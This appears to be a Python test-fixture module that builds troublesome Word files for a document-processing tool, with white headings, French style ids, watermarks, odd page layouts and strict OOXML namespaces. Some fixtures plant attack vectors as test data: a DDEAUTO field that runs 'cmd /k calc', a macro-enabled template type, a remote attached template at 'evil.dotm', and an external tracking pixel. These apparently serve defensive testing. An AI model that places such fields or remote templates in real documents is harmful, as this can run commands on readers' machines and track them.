"""Word files as departments have them, with what makes trouble in each."""

from __future__ import annotations

import re
import struct
import zlib
from collections.abc import Callable
from io import BytesIO

from docx import Document
from docx.document import Document as DocumentObject
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn
from docx.shared import Cm, Inches, RGBColor

from tests.file_edits import unzip, zip_parts

Build = Callable[[DocumentObject], None]
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MS = "http://schemas.microsoft.com/office/2006/relationships"


def picture() -> bytes:
    """Return a small PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + check

    rows = b"".join(b"\0" + b"\x26\x37\x4a" * 8 for _ in range(8))
    header = struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def foreign(build: Build, edit: Callable[[dict[str, bytes]], None] | None = None) -> bytes:
    """Return a Word file that `build` fills and `edit` then changes part by part."""
    document = Document()
    document.add_paragraph("Text of the department that has to go.")
    build(document)
    out = BytesIO()
    document.save(out)
    if edit is None:
        return out.getvalue()
    parts = unzip(out.getvalue())
    edit(parts)
    return zip_parts(parts)


def replace_in(parts: dict[str, bytes], name: str, old: str, new: str) -> None:
    """Replace a text in a part, where it has to stand."""
    text = parts[name].decode()
    assert old in text, (name, old)
    parts[name] = text.replace(old, new).encode()


def relate(parts: dict[str, bytes], name: str, relation: str) -> None:
    """Add a relationship to a part with relationships."""
    if name not in parts:
        uri = "http://schemas.openxmlformats.org/package/2006/relationships"
        parts[name] = f'<Relationships xmlns="{uri}"></Relationships>'.encode()
    replace_in(parts, name, "</Relationships>", f"{relation}</Relationships>")


def white_headings(document: DocumentObject) -> None:
    """Headings and title in white, made for a banner; numbered headings; a title in a frame."""
    for name in ("Title", "Heading 1", "Heading 2", "Caption", "Body Text"):
        document.styles[name].font.color.rgb = RGBColor(0xFF, 0xFF, 0xFF)
    title = document.styles["Title"].element.get_or_add_pPr()
    title.insert(0, parse_xml(f'<w:framePr {nsdecls("w")} w:w="4000" w:h="900" w:x="1" w:y="1"/>'))
    heading = document.styles["Heading 1"].element.get_or_add_pPr()
    numbering = f'<w:numPr {nsdecls("w")}><w:numId w:val="1"/></w:numPr>'
    heading.insert(0, parse_xml(numbering))


def own_names(document: DocumentObject) -> None:
    """Styles of the department's own under the names ours have, and a bare Table Grid."""
    for name in ("Table Heading", "Answer Line", "Section End"):
        style = document.styles.add_style(name, WD_STYLE_TYPE.PARAGRAPH)
        style.font.color.rgb = RGBColor(0xFF, 0xFF, 0xFF)
    document.styles.add_style("Table Text", WD_STYLE_TYPE.CHARACTER)


def french_ids(parts: dict[str, bytes]) -> None:
    """Give styles the ids a Word in French writes."""
    text = parts["word/styles.xml"].decode()
    for old, new in (("Heading1", "Titre1"), ("BodyText", "Corpsdetexte"), ("Title", "Titre")):
        text = text.replace(f'"{old}"', f'"{new}"')
    parts["word/styles.xml"] = text.encode()


def only_normal(parts: dict[str, bytes]) -> None:
    """Leave no style but Normal, and no lists."""
    parts["word/styles.xml"] = (
        f"<w:styles {nsdecls('w')}>"
        '<w:style w:type="paragraph" w:default="1" w:styleId="a"><w:name w:val="Normal"/></w:style>'
        "</w:styles>"
    ).encode()
    replace_in(parts, "word/document.xml", "<w:body>", "<w:body>")
    relations = parts["word/_rels/document.xml.rels"].decode()
    start = relations.index("<Relationship ", relations.index("numbering.xml") - 200)
    end = relations.index("/>", relations.index("numbering.xml")) + 2
    parts["word/_rels/document.xml.rels"] = (relations[:start] + relations[end:]).encode()


def header_of_the_department(document: DocumentObject) -> None:
    """A header with a floating logo, a bound title, a text box, tracked changes and fields."""
    section = document.sections[0]
    section.different_first_page_header_footer = True
    run = section.header.paragraphs[0].add_run()
    run.add_picture(BytesIO(picture()), width=Inches(1))
    inline = run._r.find(qn("w:drawing"))[0]
    inline.find(qn("wp:docPr")).attrib.pop("descr", None)
    section.first_page_header.paragraphs[0].add_run("Department of Examples")
    paragraph = section.header.add_paragraph()._p
    bound = (
        "<w:sdt><w:sdtPr><w:dataBinding"
        ' w:xpath="/ns1:coreProperties[1]/ns0:title[1]" w:storeItemID="{6C3C8BC8}"/></w:sdtPr>'
        "<w:sdtContent><w:r><w:t>Last year's title</w:t></w:r></w:sdtContent></w:sdt>"
    )
    tracked = '<w:del w:id="7" w:author="a"><w:r><w:delText>gone</w:delText></w:r></w:del>'
    dde = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
        "<w:r><w:instrText>AUTO cmd /k calc </w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    for child in parse_xml(f"<w:p {nsdecls('w')}>{bound}{tracked}{dde}</w:p>"):
        paragraph.append(child)
    box = (
        f'<w:r {nsdecls("w")}><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape id="b">'
        "<v:textbox><w:txbxContent><w:p><w:r><w:t>Protected A</w:t></w:r></w:p>"
        "</w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
    )
    paragraph.append(parse_xml(box))


def narrow_columns(document: DocumentObject) -> None:
    """Two columns on a page with wide margins, a landscape section first, a logo in the text."""
    section = document.sections[0]
    section.page_width, section.page_height = Cm(21), Cm(29.7)
    section.left_margin = section.right_margin = Cm(6)
    columns = f'<w:cols {nsdecls("w")} w:num="2" w:space="720"/>'
    section._sectPr.append(parse_xml(columns))
    document.paragraphs[0].add_run().add_picture(BytesIO(picture()), width=Inches(3))


def active(parts: dict[str, bytes]) -> None:
    """Macros, an attached template, an external picture, an inserted file."""
    replace_in(
        parts,
        "[Content_Types].xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    )
    replace_in(
        parts,
        "[Content_Types].xml",
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0macro"
    parts["word/chunk.html"] = b"<p>inserted</p>"
    relations = "word/_rels/document.xml.rels"
    for relation in (
        f'<Relationship Id="m1" Type="{_MS}/vbaProject" Target="vbaProject.bin"/>',
        f'<Relationship Id="m2" Type="{_R}/aFChunk" Target="chunk.html"/>',
        f'<Relationship Id="m3" Type="{_R}/image" TargetMode="External"'
        ' Target="http://tracker.example/pixel.png"/>',
    ):
        relate(parts, relations, relation)
    relate(
        parts,
        "word/_rels/settings.xml.rels",
        f'<Relationship Id="t1" Type="{_R}/attachedTemplate" TargetMode="External"'
        ' Target="http://elsewhere.example/evil.dotm"/>',
    )
    text = parts["word/settings.xml"].decode()
    start = text.index(">", text.index("<w:settings")) + 1
    attached = (
        f'<w:attachedTemplate xmlns:r="{_R}" r:id="t1"/>'
        '<w:documentProtection w:edit="readOnly" w:enforcement="1"/>'
    )
    parts["word/settings.xml"] = (text[:start] + attached + text[start:]).encode()
    replace_in(
        parts, "word/document.xml", "<w:sectPr", f'<w:altChunk xmlns:r="{_R}" r:id="m2"/><w:sectPr'
    )


_TYPES = "application/vnd.openxmlformats-officedocument.wordprocessingml"


def in_part(parts: dict[str, bytes], name: str, pattern: str, new: str) -> None:
    """Replace the first match of a pattern in a part, where it has to be."""
    text, count = re.subn(pattern, new, parts[name].decode(), count=1, flags=re.DOTALL)
    assert count, (name, pattern)
    parts[name] = text.encode()


def add_furniture(parts: dict[str, bytes], kind: str, page: str, content: str) -> None:
    """Add a header or footer for a kind of page to the last section."""
    root, number = ("hdr" if kind == "header" else "ftr"), len(parts)
    name, spaces = (
        f"word/{kind}{number}.xml",
        " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in _SPACES.items()),
    )
    parts[name] = f"<w:{root} {spaces}>{content}</w:{root}>".encode()
    override = f'<Override PartName="/{name}" ContentType="{_TYPES}.{kind}+xml"/>'
    replace_in(parts, "[Content_Types].xml", "</Types>", f"{override}</Types>")
    relation = f'<Relationship Id="f{number}" Type="{_R}/{kind}" Target="/{name}"/>'
    relate(parts, "word/_rels/document.xml.rels", relation)
    mark = f'<w:{kind}Reference xmlns:r="{_R}" w:type="{page}" r:id="f{number}"/>'
    in_part(parts, "word/document.xml", r"(<w:sectPr\b[^>]*>)(?!.*<w:sectPr)", rf"\1{mark}")


_SPACES = {
    "w": "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
    "r": _R,
    "v": "urn:schemas-microsoft-com:vml",
    "o": "urn:schemas-microsoft-com:office:office",
    "mc": "http://schemas.openxmlformats.org/markup-compatibility/2006",
    "a": "http://schemas.openxmlformats.org/drawingml/2006/main",
    "wp": "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing",
    "wps": "http://schemas.microsoft.com/office/word/2010/wordprocessingShape",
}
_WATERMARK = (
    '<w:sdt><w:sdtPr><w:docPartObj><w:docPartGallery w:val="Watermarks"/></w:docPartObj></w:sdtPr>'
    '<w:sdtContent><w:p><w:r><w:pict><v:shape id="WaterMark" type="#_x0000_t136"'
    ' style="position:absolute;width:400pt;height:200pt;rotation:315" fillcolor="silver">'
    '<v:textpath string="DRAFT"/></v:shape></w:pict></w:r></w:p></w:sdtContent></w:sdt>'
)
_TEXT_BOX = (
    '<w:p><w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wp:inline>'
    '<wp:extent cx="2000000" cy="500000"/><wp:docPr id="3" name="Text Box 3"/><a:graphic>'
    '<a:graphicData uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape">'
    '<wps:wsp><wps:cNvSpPr txBox="1"/><wps:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom>'
    "</wps:spPr><wps:txbx><w:txbxContent><w:p><w:r><w:t>In a box</w:t></w:r></w:p>"
    "</w:txbxContent></wps:txbx><wps:bodyPr/></wps:wsp></a:graphicData></a:graphic></wp:inline>"
    '</w:drawing></mc:Choice><mc:Fallback><w:pict><v:shape id="b" ID="b"><v:textbox>'
    "<w:txbxContent><w:p><w:r><w:t>In a box</w:t></w:r></w:p></w:txbxContent></v:textbox>"
    "</v:shape></w:pict></mc:Fallback></mc:AlternateContent></w:r></w:p>"
)
_TRACKED_TABLE = (
    '<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w="4000"/></w:tblGrid><w:tr><w:trPr>'
    '<w:ins w:id="7" w:author="a"/></w:trPr><w:tc><w:tcPr><w:cellIns w:id="8" w:author="a"/>'
    "</w:tcPr><w:p><w:r><w:t>Directive</w:t></w:r></w:p></w:tc><w:sdt><w:sdtPr/><w:sdtContent>"
    "<w:tc><w:p><w:r><w:t>2031</w:t></w:r></w:p></w:tc></w:sdtContent></w:sdt></w:tr></w:tbl>"
)
_FOREIGN_TAGS = (
    "<w:p><w:r><w:t>{{ old.ref</w:t></w:r><w:r><w:t>erence }}{% if x %}Branch</w:t>"
    '<w:br w:type="page"/><w:footnoteReference w:id="3"/></w:r></w:p>'
)


def furniture_of_all_kinds(parts: dict[str, bytes]) -> None:
    """Headers for odd, even and first pages: watermark, text box, tracked table, foreign tags.

    The first section is landscape, in columns, with margins that leave no room.
    """
    add_furniture(parts, "header", "default", f"{_WATERMARK}{_TEXT_BOX}")
    add_furniture(parts, "header", "even", _TRACKED_TABLE)
    add_furniture(parts, "header", "first", "<w:p/>")
    add_furniture(parts, "footer", "even", _FOREIGN_TAGS)
    section = (
        '<w:p><w:pPr><w:sectPr><w:type w:val="continuous"/><w:pgSz w:w="15840" w:h="12240"'
        ' w:orient="landscape"/><w:pgMar w:top="-1440" w:right="5000" w:bottom="1440"'
        ' w:left="5000" w:header="4000" w:footer="4000" w:gutter="700"/><w:cols w:num="3"/>'
        "</w:sectPr></w:pPr></w:p>"
    )
    in_part(parts, "word/document.xml", "<w:body>", f"<w:body>{section}")
    in_part(parts, "word/document.xml", r"</w:sectPr>(?!.*</w:sectPr>)", "<w:titlePg/></w:sectPr>")
    in_part(parts, "word/settings.xml", r"(<w:settings\b[^>]*>)", r"\1<w:evenAndOddHeaders/>")


def unfit_styles(parts: dict[str, bytes]) -> None:
    """Styles of a cover under the names of ours, white tables, a text that runs leftwards.

    Their properties stand in any order, some base on each other, one has no id.
    """
    looks = {
        "Title": (
            '<w:ind w:left="7000"/><w:spacing w:before="9000" w:line="200" w:lineRule="exact"/>',
            '<w:sz w:val="160"/><w:color w:val="FFFFFF" w:themeColor="background1"/>',
        ),
        "heading 1": ("<w:pageBreakBefore/>", '<w:highlight w:val="black"/><w:vanish/>'),
        "heading 2": ('<w:shd w:val="solid" w:color="000080"/>', '<w:color w:val="000000"/>'),
        "caption": ('<w:jc w:val="right"/>', '<w:sz w:val="2"/><w:color w:val="F2F2F2"/>'),
        "Normal": (
            '<w:ind w:left="2000"/><w:bidi/><w:jc w:val="right"/><w:spacing w:line="900"/>',
            '<w:rtl/><w:sz w:val="60"/><w:color w:val="FFFFFF"/><w:rFonts w:ascii="Arial"/>',
        ),
    }
    for name, (paragraph, run) in looks.items():
        inside = "(?:(?!</w:style>).)*"
        own = rf'(<w:name w:val="{name}"/>{inside}?)(?:<w:[pr]Pr>{inside})?'
        pattern = rf"(?i){own}</w:style>"
        new = rf"\1<w:rPr>{run}</w:rPr><w:pPr>{paragraph}</w:pPr></w:style>"
        in_part(parts, "word/styles.xml", pattern, new)
    white = '<w:rPr><w:color w:val="FFFFFF"/></w:rPr>'
    navy = '<w:tcPr><w:shd w:val="clear" w:color="auto" w:fill="1F3864"/></w:tcPr>'
    table = r'(<w:name w:val="{}"/>(?:(?!</w:style>).)*)</w:style>'
    in_part(parts, "word/styles.xml", table.format("Table Grid"), rf"\1{white}</w:style>")
    in_part(parts, "word/styles.xml", table.format("Normal Table"), rf"\1{navy}</w:style>")
    in_part(parts, "word/styles.xml", "<w:rPrDefault>.*?</w:rPrDefault>", "<w:rPrDefault/>")
    odd = "".join(
        f'<w:style w:type="paragraph" w:styleId="{one}"><w:qFormat w:val="true"/>'
        f'<w:name w:val="{one}"/><w:basedOn w:val="{other}"/></w:style>'
        for one, other in (("Chicken", "Egg"), ("Egg", "Chicken"))
    )
    no_id = '<w:style w:type="paragraph"><w:name w:val="No id"/></w:style></w:styles>'
    in_part(parts, "word/styles.xml", "</w:styles>", f"{odd}{no_id}")


def strict(parts: dict[str, bytes]) -> None:
    """The same file as "Strict Open XML Document": other namespaces, measures with units.

    With embedded fonts, settings in any order, pictures as bullets, and localized style names.
    """
    relation = f'<Relationship Id="f" Type="{_R}/font" Target="fonts/font1.odttf"/>'
    relate(parts, "word/_rels/fontTable.xml.rels", relation)
    parts["word/fonts/font1.odttf"] = bytes(200)
    kind = "application/vnd.openxmlformats-officedocument.obfuscatedFont"
    default = f'<Default Extension="odttf" ContentType="{kind}"/></Types>'
    replace_in(parts, "[Content_Types].xml", "</Types>", default)
    key = f"{{{'0' * 8}-0000-0000-0000-{'0' * 12}}}"
    font = f'<w:embedRegular xmlns:r="{_R}" r:id="f" w:fontKey="{key}"/>'
    in_part(parts, "word/fontTable.xml", r"(<w:font\b[^>]*>)", rf"\1{font}")
    loose = '<w:unheard w:val="1"/><w:embedTrueTypeFonts/><w:zoom w:percent="90"/></w:settings>'
    in_part(parts, "word/settings.xml", "</w:settings>", loose)
    bullet = (
        '<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com'
        f':vml" id="i1"><v:imagedata xmlns:r="{_R}" r:id="p"/></v:shape></w:pict></w:numPicBullet>'
    )
    parts["word/media/bullet.png"] = picture()
    picture_relation = f'<Relationship Id="p" Type="{_R}/image" Target="media/bullet.png"/>'
    relate(parts, "word/_rels/numbering.xml.rels", picture_relation)
    replace_in(
        parts,
        "[Content_Types].xml",
        "</Types>",
        '<Default Extension="png" ContentType="image/png"/></Types>',
    )
    in_part(parts, "word/numbering.xml", "</w:numbering>", f"{bullet}</w:numbering>")
    for old, new in (("heading 1", "Titre 1"), ("Table Grid", "Tabellenraster")):
        replace_in(parts, "word/styles.xml", f'w:name w:val="{old}"', f'w:name w:val="{new}"')
    in_part(parts, "word/styles.xml", r'<w:sz w:val="22"/>', '<w:sz w:val="11pt"/>')
    in_part(parts, "word/document.xml", r'w:left="\d+"', 'w:left="90pt"')
    for name in [each for each in parts if each.startswith(("word/", "_rels/"))]:
        for old, new in (
            ("wordprocessingml/2006/main", "wordprocessingml/main"),
            ("officeDocument/2006/relationships", "officeDocument/relationships"),
            ("drawingml/2006/main", "drawingml/main"),
        ):
            parts[name] = parts[name].replace(
                f"http://schemas.openxmlformats.org/{old}".encode(),
                f"http://purl.oclc.org/ooxml/{new}".encode(),
            )
